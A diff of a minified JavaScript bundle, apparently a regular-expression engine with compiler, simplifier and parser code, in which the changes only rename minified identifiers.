+t.inst.length),n=new dg(t.inst.length),s=new Array(t.inst.length),r=new Array(t.inst.length).fill(!1),i=o=>{let a=!0;const c=t.
 inst[o];if(n.contains(o))return!0;switch(n.insert(o),c.op){case T.ALT:case T.ALT_MATCH:{a=i(c.out)&&i(c.arg);let l=r[c.out],
 u=r[c.arg];if(l&&u)return!1;if(u){const h=c.out;c.out=c.arg,c.arg=h;const m=l;l=u,u=m}l&&(r[o]=!0,c.op=T.ALT_MATCH);const d=s[c.
-out]||[],B=s[c.arg]||[],f=FN(d,B,c.out,c.arg);if(!f)return!1;s[o]=new Int32Array(f.merged),c.next=new Uint32Array(f.next);
+out]||[],B=s[c.arg]||[],f=xR(d,B,c.out,c.arg);if(!f)return!1;s[o]=new Int32Array(f.merged),c.next=new Uint32Array(f.next);
 break}case T.CAPTURE:case T.EMPTY_WIDTH:case T.NOP:a=i(c.out),r[o]=r[c.out],s[o]=s[c.out]?new Int32Array(s[c.out]):new Int32Array(
 0),c.next=new Uint32Array(Math.floor(s[o].length/2)+1).fill(c.out);break;case T.MATCH:case T.FAIL:r[o]=c.op===T.MATCH;break;case T.
 RUNE:{if(r[o]=!1,c.next&&c.next.length>0)break;if(e.insert(c.out),!c.runes||c.runes.length===0){s[o]=new Int32Array(0),c.
@@ -6453,24 +6444,24 @@ runes[0]);s[o]=new Int32Array(l),c.next=new Uint32Array(Math.floor(l.length/2)+1
 if(r[o]=!1,c.next&&c.next.length>0)break;e.insert(c.out),s[o]=new Int32Array([0,se.MAX_RUNE]),c.next=new Uint32Array([c.
 out]);break;case T.RUNE_ANY_NOT_NL:if(r[o]=!1,c.next&&c.next.length>0)break;e.insert(c.out),s[o]=new Int32Array([0,9,11,
 se.MAX_RUNE]),c.next=new Uint32Array(Math.floor(s[o].length/2)+1).fill(c.out)}return a};for(e.clear(),e.insert(t.start);!e.
-empty();)if(n.clear(),!i(e.next()))return null;for(let o=0;o<t.inst.length;o++)s[o]&&(t.inst[o].runes=s[o]);return t},MN=(t,e)=>{
+empty();)if(n.clear(),!i(e.next()))return null;for(let o=0;o<t.inst.length;o++)s[o]&&(t.inst[o].runes=s[o]);return t},TR=(t,e)=>{
 for(let n=0;n<e.inst.length;n++){const s=e.inst[n];switch(s.op){case T.ALT:case T.ALT_MATCH:case T.RUNE:break;case T.CAPTURE:case T.
 EMPTY_WIDTH:case T.NOP:case T.MATCH:case T.FAIL:t.inst[n].next=null;break;case T.RUNE1:case T.RUNE_ANY:case T.RUNE_ANY_NOT_NL:
-t.inst[n].next=null,t.inst[n].op=s.op,t.inst[n].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var hg=class $C{static compile(e){
+t.inst[n].next=null,t.inst[n].op=s.op,t.inst[n].runes=s.runes?new Int32Array(s.runes):new Int32Array(0)}}};var Bg=class TC{static compile(e){
 if(e.start===0||e.numLb>0)return null;const n=e.inst[e.start];if(n.op!==T.EMPTY_WIDTH||(n.arg&V.EMPTY_BEGIN_TEXT)===0)return null;
 let s=!1;for(let i=0;i<e.inst.length;i++)if(e.inst[i].op===T.ALT||e.inst[i].op===T.ALT_MATCH){s=!0;break}for(let i=0;i<e.
 inst.length;i++){const o=e.inst[i],a=e.inst[o.out].op;switch(o.op){case T.ALT:case T.ALT_MATCH:if(a===T.MATCH||e.inst[o.
 arg].op===T.MATCH)return null;break;case T.EMPTY_WIDTH:if(a===T.MATCH){if((o.arg&V.EMPTY_END_TEXT)===V.EMPTY_END_TEXT)continue;
-return null}break;default:if(a===T.MATCH&&s)return null}}let r=PN(e);return r=jN(r),r!==null&&MN(r,e),r}static next(e,n){
+return null}break;default:if(a===T.MATCH&&s)return null}}let r=AR(e);return r=SR(r),r!==null&&TR(r,e),r}static next(e,n){
 const s=e.matchRunePos(n);return s>=0?e.next[s]:e.op===T.ALT_MATCH?e.out:0}static execute(e,n,s,r,i){const o=e.onepass;if(!o)
 return null;const a=new Int32Array(i).fill(-1);let c=!1,l=n.step(s),u=l>>3,d=l&7,B=kt.EOF(),f=-1,h=0;l!==kt.EOF()&&(B=n.
 step(s+d),B!==kt.EOF()&&(f=B>>3,h=B&7));let m=s===0?V.emptyOpContext(-1,u):n.context(s),g=o.start,C;for(;;){switch(C=o.inst[g],
 g=C.out,C.op){case T.MATCH:return r===F.ANCHOR_BOTH&&s!==n.endPos()?null:(c=!0,a.length>0&&(a[0]=0,a[1]=s),i===0?[]:V.toArray(
 a));case T.RUNE:if(!C.matchRune(u))return null;break;case T.RUNE1:if(u!==C.runes[0])return null;break;case T.RUNE_ANY:break;case T.
-RUNE_ANY_NOT_NL:if(u===10)return null;break;case T.ALT:case T.ALT_MATCH:g=$C.next(C,u);continue;case T.FAIL:return null;case T.
+RUNE_ANY_NOT_NL:if(u===10)return null;break;case T.ALT:case T.ALT_MATCH:g=TC.next(C,u);continue;case T.FAIL:return null;case T.
 NOP:continue;case T.EMPTY_WIDTH:if((C.arg&~m)!==0)return null;continue;case T.CAPTURE:C.arg<a.length&&(a[C.arg]=s);continue;default:
 throw new Pi("bad inst")}if(d===0)break;m=V.emptyOpContext(u,f),s+=d,u=f,d=h,u!==-1&&(B=n.step(s+d),B!==kt.EOF()?(f=B>>3,
-h=B&7):(f=-1,h=0))}return c?i===0?[]:V.toArray(a):null}},x=class ge{static Op=og(["NO_MATCH","EMPTY_MATCH","LITERAL","CH\
+h=B&7):(f=-1,h=0))}return c?i===0?[]:V.toArray(a):null}},x=class ge{static Op=rg(["NO_MATCH","EMPTY_MATCH","LITERAL","CH\
 AR_CLASS","ANY_CHAR_NOT_NL","ANY_CHAR","BEGIN_LINE","END_LINE","BEGIN_TEXT","END_TEXT","WORD_BOUNDARY","NO_WORD_BOUNDARY",
 "CAPTURE","STAR","PLUS","QUEST","REPEAT","CONCAT","ALTERNATE","PLB","NLB","LEFT_PAREN","VERTICAL_BAR"]);static isPseudoOp(e){
 return e>=ge.Op.LEFT_PAREN}static emptySubs(){return[]}static quoteIfHyphen(e){return e===L.CODES["-"]?"\\":""}static fromRegexp(e){
@@ -6507,10 +6498,10 @@ if((this.flags&F.NON_GREEDY)!==(e.flags&F.NON_GREEDY)||!this.subs[0].equals(e.su
 if((this.flags&F.NON_GREEDY)!==(e.flags&F.NON_GREEDY)||this.min!==e.min||this.max!==e.max||!this.subs[0].equals(e.subs[0]))
 return!1;break;case ge.Op.CAPTURE:if(this.cap!==e.cap||(this.name===null?e.name!==null:this.name!==e.name)||!this.subs[0].
 equals(e.subs[0]))return!1;break;case ge.Op.PLB:case ge.Op.NLB:if(this.lb!==e.lb||!this.subs[0].equals(e.subs[0]))return!1}
-return!0}},Ic=class{static walk(t,e){const n=[];let s=t,r;for(;;){if(s.subs.length===0)r=e.leaf(s);else{const i=e.enter(
+return!0}},Tc=class{static walk(t,e){const n=[];let s=t,r;for(;;){if(s.subs.length===0)r=e.leaf(s);else{const i=e.enter(
 s);if(i.result===void 0){n.push({re:s,state:i,i:0}),s=s.subs[0];continue}r=i.result}for(;;){if(n.length===0)return r;const i=n[n.
 length-1];if(e.child(i.re,i.state,r,i.i),i.i++,i.state.result===void 0&&i.i<i.re.subs.length){s=i.re.subs[i.i];break}n.pop(),
-r=i.state.result!==void 0?i.state.result:e.leave(i.re,i.state)}}}},pg=class{constructor(t,e){const n=new Map,s=[0],r=[0],
+r=i.state.result!==void 0?i.state.result:e.leave(i.re,i.state)}}}},fg=class{constructor(t,e){const n=new Map,s=[0],r=[0],
 i=[0],o=[0];for(const h of t){let m=0;for(let g=0;g<h.length;g++){const C=m*e+h[g];let y=n.get(C);y===void 0&&(y=s.length,
 n.set(C,y),s.push(m),r.push(h[g]),i.push(i[m]+1),o.push(0)),m=y}o[m]=1}const a=s.length,c=new Int32Array(a-1);for(let h=1;h<
 a;h++)c[h-1]=h;c.sort((h,m)=>s[h]-s[m]||r[h]-r[m]);const l=new Int32Array(a+1);for(let h=1;h<a;h++)l[s[h]+1]++;for(let h=0;h<
@@ -6521,16 +6512,16 @@ a),f=Uint8Array.from(o);for(let h=1;h<a;h++){const m=d[h],g=s[m];if(g!==0){let C
 childStart[t+1];const r=this.childUnit;for(;n<s;){const i=n+s>>1,o=r[i];if(o===e)return this.childNode[i];o<e?n=i+1:s=i}
 return-1}advance(t,e){for(;;){const n=this.next(t,e);if(n>=0)return n;if(t===0)return 0;t=this.fail[t]}}searchUTF16(t,e,n){
 let s=0;for(let r=e;r<n;r++)if(s=this.advance(s,t.charCodeAt(r)),this.match[s]===1)return!0;return!1}searchUTF8(t,e,n){let s=0;
-for(let r=e;r<n;r++)if(s=this.advance(s,t[r]),this.match[s]===1)return!0;return!1}},Ee=class Es{static Type={NONE:0,EXACT:1,
+for(let r=e;r<n;r++)if(s=this.advance(s,t[r]),this.match[s]===1)return!0;return!1}},Ee=class _s{static Type={NONE:0,EXACT:1,
 AND:2,OR:3};static MAX_SCANS=32;static MAX_AC_UNITS=1<<18;constructor(e){this.type=e,this.subs=[],this.str="",this.bytes=
-null,this.cost=e===Es.Type.EXACT?1:0,this.allExact=!1,this.ac16=null,this.ac8=null}automaton16(){if(this.ac16===null){const e=this.
+null,this.cost=e===_s.Type.EXACT?1:0,this.allExact=!1,this.ac16=null,this.ac8=null}automaton16(){if(this.ac16===null){const e=this.
 subs.map(n=>{const s=new Array(n.str.length);for(let r=0;r<n.str.length;r++)s[r]=n.str.charCodeAt(r);return s});this.ac16=
-new pg(e,65536)}return this.ac16}automaton8(){return this.ac8===null&&(this.ac8=new pg(this.subs.map(e=>e.bytes),256)),this.
-ac8}eval(e,n){switch(this.type){case Es.Type.NONE:return!0;case Es.Type.EXACT:return e.hasString(this,n);case Es.Type.AND:
-for(let s=0;s<this.subs.length;s++)if(!this.subs[s].eval(e,n))return!1;return!0;case Es.Type.OR:if(this.allExact)return e.
+new fg(e,65536)}return this.ac16}automaton8(){return this.ac8===null&&(this.ac8=new fg(this.subs.map(e=>e.bytes),256)),this.
+ac8}eval(e,n){switch(this.type){case _s.Type.NONE:return!0;case _s.Type.EXACT:return e.hasString(this,n);case _s.Type.AND:
+for(let s=0;s<this.subs.length;s++)if(!this.subs[s].eval(e,n))return!1;return!0;case _s.Type.OR:if(this.allExact)return e.
 hasAnyString(this,n);for(let s=0;s<this.subs.length;s++)if(this.subs[s].eval(e,n))return!0;return!1;default:return!0}}},
-GN=class ks{static build(e){return e?Ic.walk(e,ks.WALKER):new Ee(Ee.Type.NONE)}static WALKER={leaf:e=>ks.leaf(e),enter:e=>ks.
-enter(e),child:(e,n,s)=>ks.child(e,n,s),leave:(e,n)=>ks.leave(e,n)};static leaf(e){if(e.op!==x.Op.LITERAL)return new Ee(
+IR=class Es{static build(e){return e?Tc.walk(e,Es.WALKER):new Ee(Ee.Type.NONE)}static WALKER={leaf:e=>Es.leaf(e),enter:e=>Es.
+enter(e),child:(e,n,s)=>Es.child(e,n,s),leave:(e,n)=>Es.leave(e,n)};static leaf(e){if(e.op!==x.Op.LITERAL)return new Ee(
 Ee.Type.NONE);if(e.runes.length===0||(e.flags&F.FOLD_CASE)!==0)return new Ee(Ee.Type.NONE);let n="";for(let r=0;r<e.runes.
 length;r++){if(se.isUnsearchable(e.runes[r]))return new Ee(Ee.Type.NONE);n+=String.fromCodePoint(e.runes[r])}const s=new Ee(
 Ee.Type.EXACT);return s.str=n,s.bytes=V.stringToUtf8ByteArray(s.str),s}static enter(e){switch(e.op){case x.Op.CAPTURE:case x.
@@ -6545,7 +6536,7 @@ for(const d of i)u+d.cost>Ee.MAX_SCANS||(l.push(d),u+=d.cost);return l.length===
 (s.subs=l,s.cost=u,s)}if(i.length===0)return new Ee(Ee.Type.NONE);if(i.length===1)return i[0];s.subs=i;let o=!0,a=0,c=0;
 for(const l of i)l.type!==Ee.Type.EXACT?o=!1:c+=l.bytes.length,a+=l.cost;return o?c>Ee.MAX_AC_UNITS?new Ee(Ee.Type.NONE):
 (s.allExact=!0,s.cost=1,s):a>Ee.MAX_SCANS?new Ee(Ee.Type.NONE):(s.cost=a,s)}},jt=class{constructor(t=0,e=0){this.head=t,
-this.tail=e}},HN=class{constructor(){this.inst=[],this.start=0,this.numCap=2,this.lbStarts=[],this.numLb=0,this.lbInst=null}getInst(t){
+this.tail=e}},$R=class{constructor(){this.inst=[],this.start=0,this.numCap=2,this.lbStarts=[],this.numLb=0,this.lbInst=null}getInst(t){
 return this.inst[t]}numInst(){return this.inst.length}addInst(t){this.inst.push(new T(t))}markLookbehindInsts(){const t=new Uint8Array(
 this.inst.length),e=this.lbStarts.slice();for(;e.length>0;){const n=e.pop();if(n===0||t[n]===1)continue;t[n]=1;const s=this.
 inst[n];switch(s.op){case T.ALT:case T.ALT_MATCH:e.push(s.out,s.arg);break;case T.MATCH:case T.FAIL:break;default:e.push(
@@ -6558,15 +6549,15 @@ let n=t.head;for(;n!==0;){const s=this.inst[n>>1];(n&1)===0?(n=s.out,s.out=e):(n
 0)return e;if(e.head===0)return t;const n=this.inst[t.tail>>1];return(t.tail&1)===0?n.out=e.head:n.arg=e.head,new jt(t.head,
 e.tail)}toString(){let t="";for(let e=0;e<this.inst.length;e++){const n=t.length;t+=e,e===this.start&&(t+="*"),t+="     \
    ".substring(t.length-n),t+=this.inst[e],t+=`
-`}return t}};const zN=new Int32Array([0,L.CODES[`
+`}return t}};const NR=new Int32Array([0,L.CODES[`
 `]-1,L.CODES[`
-`]+1,se.MAX_RUNE]),mg=new Int32Array([0,se.MAX_RUNE]);var Hi=class{constructor(t=0,e=new jt,n=!1){this.i=t,this.out=e,this.
-nullable=n}},gg=class Kc{static compileRegexp(e){const n=new Kc,s=n.compile(e);return n.prog.patch(s.out,n.newInst(T.MATCH).
-i),n.prog.start=s.i,n.prog.markLookbehindInsts(),n.prog}static compileSet(e){const n=new Kc;if(e.length===0)return n.prog.
+`]+1,se.MAX_RUNE]),hg=new Int32Array([0,se.MAX_RUNE]);var Hi=class{constructor(t=0,e=new jt,n=!1){this.i=t,this.out=e,this.
+nullable=n}},pg=class Zc{static compileRegexp(e){const n=new Zc,s=n.compile(e);return n.prog.patch(s.out,n.newInst(T.MATCH).
+i),n.prog.start=s.i,n.prog.markLookbehindInsts(),n.prog}static compileSet(e){const n=new Zc;if(e.length===0)return n.prog.
 start=n.newInst(T.FAIL).i,n.prog.markLookbehindInsts(),n.prog;let s=[];for(let i=0;i<e.length;i++){n.lbOffset=n.prog.numLb;
 const o=n.compile(e[i]),a=n.newInst(T.MATCH);n.prog.getInst(a.i).arg=i,n.prog.patch(o.out,a.i),s.push(o.i)}let r=s[0];for(let i=1;i<
 s.length;i++){const o=n.newInst(T.ALT),a=n.prog.getInst(o.i);a.out=r,a.arg=s[i],r=o.i}return n.prog.start=r,n.prog.markLookbehindInsts(),
-n.prog}constructor(){this.prog=new HN,this.newInst(T.FAIL),this.lbOffset=0,this.runeCache=new Map,this.walker={leaf:e=>this.
+n.prog}constructor(){this.prog=new $R,this.newInst(T.FAIL),this.lbOffset=0,this.runeCache=new Map,this.walker={leaf:e=>this.
 leaf(e),enter:e=>this.enter(e),child:(e,n,s)=>this.child(e,n,s),leave:(e,n)=>this.leave(e,n)}}newInst(e){return this.prog.
 addInst(e),new Hi(this.prog.numInst()-1,new jt,!0)}nop(){const e=this.newInst(T.NOP);return e.out=new jt(e.i<<1,e.i<<1),
 e}fail(){return new Hi}cap(e){const n=this.newInst(T.CAPTURE);return n.out=new jt(n.i<<1,n.i<<1),this.prog.getInst(n.i).
@@ -6585,25 +6576,25 @@ length===1||e.length===2&&e[0]===e[1]?r.op=T.RUNE1:e.length===2&&e[0]===0&&e[1]=
 4&&e[0]===0&&e[1]===L.CODES[`
 `]-1&&e[2]===L.CODES[`
 `]+1&&e[3]===se.MAX_RUNE&&(r.op=T.RUNE_ANY_NOT_NL),s}lookBehind(e,n){const s=Math.sign(n)*(Math.abs(n)+this.lbOffset),r=this.
-newInst(T.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(mg,0),o=this.star(i,!0),a=this.cat(o,e);this.prog.patch(
+newInst(T.LB_WRITE);this.prog.getInst(r.i).arg=s;const i=this.rune(hg,0),o=this.star(i,!0),a=this.cat(o,e);this.prog.patch(
 a.out,r.i);const c=this.newInst(T.LB_CHECK);return this.prog.getInst(c.i).arg=s,this.prog.lbStarts.push(a.i),Math.abs(s)>
-this.prog.numLb&&(this.prog.numLb=Math.abs(s)),c.out=new jt(c.i<<1,c.i<<1),c}compile(e){return Ic.walk(e,this.walker)}leaf(e){
+this.prog.numLb&&(this.prog.numLb=Math.abs(s)),c.out=new jt(c.i<<1,c.i<<1),c}compile(e){return Tc.walk(e,this.walker)}leaf(e){
 switch(e.op){case x.Op.NO_MATCH:return this.fail();case x.Op.EMPTY_MATCH:return this.nop();case x.Op.LITERAL:{if(e.runes.
 length===0)return this.nop();let n=null;for(let s of e.runes){let r=this.runeCache.get(s);r===void 0&&(r=new Int32Array(
 [s]),this.runeCache.set(s,r));const i=this.rune(r,e.flags);n=n===null?i:this.cat(n,i)}return n}case x.Op.CHAR_CLASS:return this.
-rune(e.runes,e.flags);case x.Op.ANY_CHAR_NOT_NL:return this.rune(zN,0);case x.Op.ANY_CHAR:return this.rune(mg,0);case x.
+rune(e.runes,e.flags);case x.Op.ANY_CHAR_NOT_NL:return this.rune(NR,0);case x.Op.ANY_CHAR:return this.rune(hg,0);case x.
 Op.BEGIN_LINE:return this.empty(V.EMPTY_BEGIN_LINE);case x.Op.END_LINE:return this.empty(V.EMPTY_END_LINE);case x.Op.BEGIN_TEXT:
 return this.empty(V.EMPTY_BEGIN_TEXT);case x.Op.END_TEXT:return this.empty(V.EMPTY_END_TEXT);case x.Op.WORD_BOUNDARY:return this.
 empty(V.EMPTY_WORD_BOUNDARY);case x.Op.NO_WORD_BOUNDARY:return this.empty(V.EMPTY_NO_WORD_BOUNDARY);case x.Op.CONCAT:case x.
-Op.ALTERNATE:return this.nop();default:throw new or("regexp: unhandled case in compile")}}enter(e){switch(e.op){case x.Op.
+Op.ALTERNATE:return this.nop();default:throw new rr("regexp: unhandled case in compile")}}enter(e){switch(e.op){case x.Op.
 PLB:case x.Op.NLB:case x.Op.STAR:case x.Op.PLUS:case x.Op.QUEST:return{sub:null};case x.Op.CAPTURE:return{bra:this.cap(e.
-cap<<1),sub:null};case x.Op.CONCAT:case x.Op.ALTERNATE:return{f:null};default:throw new or("regexp: unhandled case in co\
+cap<<1),sub:null};case x.Op.CONCAT:case x.Op.ALTERNATE:return{f:null};default:throw new rr("regexp: unhandled case in co\
 mpile")}}child(e,n,s){e.op===x.Op.CONCAT?n.f=n.f===null?s:this.cat(n.f,s):e.op===x.Op.ALTERNATE?n.f=n.f===null?s:this.alt(
 n.f,s):n.sub=s}leave(e,n){switch(e.op){case x.Op.PLB:case x.Op.NLB:return this.lookBehind(n.sub,e.lb);case x.Op.CAPTURE:{
 const s=this.cap(e.cap<<1|1);return this.cat(this.cat(n.bra,n.sub),s)}case x.Op.STAR:return this.star(n.sub,(e.flags&F.NON_GREEDY)!==
 0);case x.Op.PLUS:return this.plus(n.sub,(e.flags&F.NON_GREEDY)!==0);case x.Op.QUEST:return this.quest(n.sub,(e.flags&F.
-NON_GREEDY)!==0);case x.Op.CONCAT:case x.Op.ALTERNATE:return n.f;default:throw new or("regexp: unhandled case in compile")}}},
-Cg=class wt{static simplify(e){return e===null?null:Ic.walk(e,wt.WALKER)}static WALKER={leaf:e=>wt.leaf(e),enter:e=>wt.enter(
+NON_GREEDY)!==0);case x.Op.CONCAT:case x.Op.ALTERNATE:return n.f;default:throw new rr("regexp: unhandled case in compile")}}},
+mg=class wt{static simplify(e){return e===null?null:Tc.walk(e,wt.WALKER)}static WALKER={leaf:e=>wt.leaf(e),enter:e=>wt.enter(
 e),child:(e,n,s,r)=>wt.child(e,n,s,r),leave:(e,n)=>wt.leave(e,n)};static leaf(e){if(e.op===x.Op.CHAR_CLASS){if(e.runes===
 null)return e;if(e.runes.length===0)return new x(x.Op.NO_MATCH);if(e.runes.length===2&&e.runes[0]===0&&e.runes[1]===se.MAX_RUNE)
 return new x(x.Op.ANY_CHAR);if(e.runes.length===4&&e.runes[0]===0&&e.runes[1]===L.CODES[`
@@ -6630,17 +6621,17 @@ CONCAT){for(let o=0;o<i.subs.length;o++)n.push(i.subs[o]);continue}n.push(i)}}if
 if(n.length===1)return n[0];const s=new x(x.Op.CONCAT);return s.subs=n,s}static simplify1(e,n,s,r){if(s.op===x.Op.EMPTY_MATCH)
 return s;if(s.op===x.Op.NO_MATCH)return e===x.Op.PLUS?s:new x(x.Op.EMPTY_MATCH);if(e===s.op&&(n&F.NON_GREEDY)===(s.flags&
 F.NON_GREEDY))return s;if(r!==null&&r.op===e&&(r.flags&F.NON_GREEDY)===(n&F.NON_GREEDY)&&s===r.subs[0])return r;const i=new x(
-e);return i.flags=n,i.subs=[s],i}},Ne=class{constructor(t,e){this.sign=t,this.cls=e}};const yg=[48,57],wg=[9,10,12,13,32,
-32],bg=[48,57,65,90,95,95,97,122],_g=new Map([["\\d",new Ne(1,yg)],["\\D",new Ne(-1,yg)],["\\s",new Ne(1,wg)],["\\S",new Ne(
--1,wg)],["\\w",new Ne(1,bg)],["\\W",new Ne(-1,bg)]]),Eg=[48,57,65,90,97,122],kg=[65,90,97,122],vg=[0,127],Dg=[9,9,32,32],
-xg=[0,31,127,127],Og=[48,57],Ag=[33,126],Sg=[97,122],Tg=[32,126],Ig=[33,47,58,64,91,96,123,126],$g=[9,13,32,32],Rg=[65,90],
-Ng=[48,57,65,90,95,95,97,122],Fg=[48,57,65,70,97,102],Lg=new Map([["[:alnum:]",new Ne(1,Eg)],["[:^alnum:]",new Ne(-1,Eg)],
-["[:alpha:]",new Ne(1,kg)],["[:^alpha:]",new Ne(-1,kg)],["[:ascii:]",new Ne(1,vg)],["[:^ascii:]",new Ne(-1,vg)],["[:blan\
-k:]",new Ne(1,Dg)],["[:^blank:]",new Ne(-1,Dg)],["[:cntrl:]",new Ne(1,xg)],["[:^cntrl:]",new Ne(-1,xg)],["[:digit:]",new Ne(
-1,Og)],["[:^digit:]",new Ne(-1,Og)],["[:graph:]",new Ne(1,Ag)],["[:^graph:]",new Ne(-1,Ag)],["[:lower:]",new Ne(1,Sg)],[
-"[:^lower:]",new Ne(-1,Sg)],["[:print:]",new Ne(1,Tg)],["[:^print:]",new Ne(-1,Tg)],["[:punct:]",new Ne(1,Ig)],["[:^punc\
-t:]",new Ne(-1,Ig)],["[:space:]",new Ne(1,$g)],["[:^space:]",new Ne(-1,$g)],["[:upper:]",new Ne(1,Rg)],["[:^upper:]",new Ne(
--1,Rg)],["[:word:]",new Ne(1,Ng)],["[:^word:]",new Ne(-1,Ng)],["[:xdigit:]",new Ne(1,Fg)],["[:^xdigit:]",new Ne(-1,Fg)]]);
+e);return i.flags=n,i.subs=[s],i}},Re=class{constructor(t,e){this.sign=t,this.cls=e}};const gg=[48,57],Cg=[9,10,12,13,32,
+32],yg=[48,57,65,90,95,95,97,122],wg=new Map([["\\d",new Re(1,gg)],["\\D",new Re(-1,gg)],["\\s",new Re(1,Cg)],["\\S",new Re(
+-1,Cg)],["\\w",new Re(1,yg)],["\\W",new Re(-1,yg)]]),bg=[48,57,65,90,97,122],_g=[65,90,97,122],Eg=[0,127],kg=[9,9,32,32],
+vg=[0,31,127,127],Dg=[48,57],xg=[33,126],Og=[97,122],Ag=[32,126],Sg=[33,47,58,64,91,96,123,126],Tg=[9,13,32,32],Ig=[65,90],
+$g=[48,57,65,90,95,95,97,122],Ng=[48,57,65,70,97,102],Rg=new Map([["[:alnum:]",new Re(1,bg)],["[:^alnum:]",new Re(-1,bg)],
+["[:alpha:]",new Re(1,_g)],["[:^alpha:]",new Re(-1,_g)],["[:ascii:]",new Re(1,Eg)],["[:^ascii:]",new Re(-1,Eg)],["[:blan\
+k:]",new Re(1,kg)],["[:^blank:]",new Re(-1,kg)],["[:cntrl:]",new Re(1,vg)],["[:^cntrl:]",new Re(-1,vg)],["[:digit:]",new Re(
+1,Dg)],["[:^digit:]",new Re(-1,Dg)],["[:graph:]",new Re(1,xg)],["[:^graph:]",new Re(-1,xg)],["[:lower:]",new Re(1,Og)],[
+"[:^lower:]",new Re(-1,Og)],["[:print:]",new Re(1,Ag)],["[:^print:]",new Re(-1,Ag)],["[:punct:]",new Re(1,Sg)],["[:^punc\
+t:]",new Re(-1,Sg)],["[:space:]",new Re(1,Tg)],["[:^space:]",new Re(-1,Tg)],["[:upper:]",new Re(1,Ig)],["[:^upper:]",new Re(
+-1,Ig)],["[:word:]",new Re(1,$g)],["[:^word:]",new Re(-1,$g)],["[:xdigit:]",new Re(1,Ng)],["[:^xdigit:]",new Re(-1,Ng)]]);
 var Vn=class Xi{static charClassToString(e,n){let s="[";for(let r=0;r<n;r+=2){r>0&&(s+=" ");const i=e[r],o=e[r+1];i===o?
 s+=`0x${i.toString(16)}`:s+=`0x${i.toString(16)}-0x${o.toString(16)}`}return s+="]",s}static sortRanges(e,n){const s=n>>
 1,r=new Array(s);for(let o=0;o<s;o++)r[o]=o;r.sort((o,a)=>e[2*o]-e[2*a]||e[2*a+1]-e[2*o+1]);const i=e.slice(0,n);for(let o=0;o<
@@ -6667,11 +6658,11 @@ e)}negateClass(){let e=0,n=0;for(let s=0;s<this.len;s+=2){const r=this.r[s],i=th
 1]=r-1,n+=2),e=i+1}return this.len=n,e<=se.MAX_RUNE&&(this.r[this.len++]=e,this.r[this.len++]=se.MAX_RUNE),this}appendClassWithSign(e,n){
 return n<0?this.appendNegatedClass(e):this.appendClass(e)}appendGroup(e,n){let s=e.cls;return n&&(s=new Xi().appendFoldedClass(
 s).cleanClass().toArray()),this.appendClassWithSign(s,e.sign)}toString(){return Xi.charClassToString(this.r,this.len)}},
-UN=class{constructor(t){this.str=t,this.position=0}pos(){return this.position}rewindTo(t){this.position=t}more(){return this.
+RR=class{constructor(t){this.str=t,this.position=0}pos(){return this.position}rewindTo(t){this.position=t}more(){return this.
 position<this.str.length}peek(){return this.str.codePointAt(this.position)}skip(t){this.position+=t}skipString(t){this.position+=
 t.length}pop(){const t=this.str.codePointAt(this.position);return this.position+=V.charCount(t),t}lookingAt(t){return this.
 str.startsWith(t,this.position)}rest(){return this.str.substring(this.position)}from(t){return this.str.substring(t,this.
-position)}toString(){return this.rest()}},cr=class fe{static ERR_INTERNAL_ERROR="regexp/syntax: internal error";static ERR_INVALID_CHAR_RANGE="\
+position)}toString(){return this.rest()}},or=class fe{static ERR_INTERNAL_ERROR="regexp/syntax: internal error";static ERR_INVALID_CHAR_RANGE="\
 invalid character class range";static ERR_INVALID_ESCAPE="invalid escape sequence";static ERR_INVALID_NAMED_CAPTURE="inv\
 alid named capture";static ERR_INVALID_PERL_OP="invalid or unsupported Perl syntax";static ERR_INVALID_REPEAT_OP="invali\
 d nested repetition operator";static ERR_INVALID_REPEAT_SIZE="invalid repeat count";static ERR_MISSING_BRACKET="missing \
@@ -6681,9 +6672,9 @@ duplicate capture group name";static ERR_UNEXPECTED_PAREN="unexpected )";static 
 deeply";static ERR_LARGE="expression too large";static ERR_INVALID_CAPTURE_IN_LOOKBEHIND="invalid capture in lookbehind";static MAX_HEIGHT=1e3;static MAX_SIZE=1398101;static MAX_RUNES=33554432;static ANY_TABLE=new E(
 new Uint32Array([0,se.MAX_RUNE,1]));static ASCII_TABLE=new E(new Uint32Array([0,127,1]));static ASCII_FOLD_TABLE=new E(new Uint32Array(
 [0,127,1,383,383,1,8490,8490,1]));static unicodeTable(e){return e==="Any"?{tab:fe.ANY_TABLE,fold:fe.ANY_TABLE,sign:1}:e===
-"Ascii"?{tab:fe.ASCII_TABLE,fold:fe.ASCII_FOLD_TABLE,sign:1}:e==="Assigned"?{tab:Nt.CATEGORIES.get("Cn"),fold:Nt.CATEGORIES.
-get("Cn"),sign:-1}:e==="Lc"?{tab:Nt.CATEGORIES.get("LC"),fold:Nt.FOLD_CATEGORIES.get("LC"),sign:1}:Nt.CATEGORIES.has(e)?
-{tab:Nt.CATEGORIES.get(e),fold:Nt.FOLD_CATEGORIES.get(e),sign:1}:Nt.SCRIPTS.has(e)?{tab:Nt.SCRIPTS.get(e),fold:Nt.FOLD_SCRIPT.
+"Ascii"?{tab:fe.ASCII_TABLE,fold:fe.ASCII_FOLD_TABLE,sign:1}:e==="Assigned"?{tab:Rt.CATEGORIES.get("Cn"),fold:Rt.CATEGORIES.
+get("Cn"),sign:-1}:e==="Lc"?{tab:Rt.CATEGORIES.get("LC"),fold:Rt.FOLD_CATEGORIES.get("LC"),sign:1}:Rt.CATEGORIES.has(e)?
+{tab:Rt.CATEGORIES.get(e),fold:Rt.FOLD_CATEGORIES.get(e),sign:1}:Rt.SCRIPTS.has(e)?{tab:Rt.SCRIPTS.get(e),fold:Rt.FOLD_SCRIPT.
 get(e),sign:1}:null}static minFoldRune(e){if(e<se.MIN_FOLD||e>se.MAX_FOLD)return e;let n=e;const s=e;for(e=se.simpleFold(
 e);e!==s;e=se.simpleFold(e))n>e&&(n=e);return n}static leadingRegexp(e){if(e.op===x.Op.EMPTY_MATCH)return null;if(e.op===
 x.Op.CONCAT&&e.subs.length>0){const n=e.subs[0];return n.op===x.Op.EMPTY_MATCH?null:n}return e}static literalRegexp(e,n){
@@ -6782,7 +6773,7 @@ length),e.runes.length===0&&(e.op=x.Op.EMPTY_MATCH)),e}removeLeadingRegexp(e,n){
 switch(n&&this.reuse(e.subs[0]),e.subs=e.subs.slice(1,e.subs.length),e.subs.length){case 0:e.op=x.Op.EMPTY_MATCH,e.subs=
 x.emptySubs();break;case 1:{const s=e;e=e.subs[0],this.reuse(s);break}}return e}return n&&this.reuse(e),this.newRegexp(x.
